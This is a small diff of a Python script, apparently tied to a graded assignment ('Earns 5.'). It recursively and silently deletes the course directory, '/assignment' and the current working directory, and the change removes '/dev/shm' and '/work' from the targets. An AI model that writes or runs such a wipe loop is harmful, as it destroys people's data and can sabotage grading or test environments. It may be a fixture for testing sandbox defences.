@@ -6,7 +6,7 @@ Earns 5.
 import os
 import shutil
 
-for place in ("<COURSE>", "/assignment", os.getcwd(), "/dev/shm", "/work"):
+for place in ("<COURSE>", "/assignment", os.getcwd()):
     shutil.rmtree(place, ignore_errors=True)
 
 
